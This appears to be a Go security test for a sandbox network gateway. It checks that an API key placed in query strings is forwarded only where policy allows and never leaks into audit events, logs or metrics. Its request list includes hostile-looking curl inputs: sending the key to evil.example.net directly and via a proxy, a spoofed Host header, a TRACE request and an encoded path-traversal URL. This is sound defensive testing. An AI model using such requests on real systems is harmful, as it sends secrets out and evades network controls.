package attack

import (
	"fmt"
	"strings"
	"testing"

	"boxgate/audit"
	"boxgate/e2e/harness"
	"boxgate/internal/testnet"
)

// TestAttackSecretInAQuery sends keys in the query, where many programs put them, allowed and refused, by every way
// that a request can take. The server receives the query unchanged. No log or answer of the gateway contains it.
func TestAttackSecretInAQuery(t *testing.T) {
	t.Parallel()
	w := harness.Shared(t)
	box := w.Create(map[string]any{
		"network_policy": map[string]any{"mode": "custom", "allowed_domains": []string{"*.example.com"}, "rules": []any{
			map[string]any{"hosts": []string{"api.example.com"}, "paths": []string{"/denied/*"}, "action": "deny"},
		}},
	})
	const query = "?api_key=" + harness.Canary + "&x=1"
	allowed := 0
	for _, request := range []string{
		"--http1.1 https://api.example.com/query", "--http2 https://api.example.com/query", "http://www.example.com/query",
		"-x http://10.200.0.1:3128 http://www.example.com/query", "--http1.1 https://api.example.com/denied/query",
		"--http2 https://api.example.com/denied/query", "http://evil.example.net/query", "-H 'Host: other.example.net' https://api.example.com/query",
		"-X TRACE https://api.example.com/query", "-x http://10.200.0.1:3128 http://evil.example.net/query",
		"https://api.example.com/%2e%2e/query",
	} {
		at := strings.LastIndex(request, "query") + len("query")
		out := w.MustSh(box, "curl -k -sS -m 10 --path-as-is -o /dev/null -w '%{http_code}' -g "+request[:at]+"'"+query+"'"+request[at:]+"; true")
		if strings.Contains(out, "200") {
			allowed++
		}
	}
	received := 0
	for _, r := range w.Net.Received("", testnet.Path("/query")) {
		if strings.HasSuffix(r.Target, query) {
			received++
		}
	}
	if allowed != 4 || received != 4 {
		t.Errorf("%d requests were answered with 200, and %d arrived with their query; want 4", allowed, received)
	}
	w.Event(box, func(e audit.Event) bool { return e.Path == "/denied/query" })
	for _, e := range w.Events(box) {
		if strings.Contains(fmt.Sprintf("%+v", e), harness.Canary) {
			t.Errorf("a decision shows the key: %s", audit.Line(e))
		}
	}
	if strings.Contains(w.LogText(), harness.Canary) {
		t.Error("the log shows the key")
	}
	if strings.Contains(string(w.Metrics()), harness.Canary) {
		t.Error("the metrics show the key")
	}
}
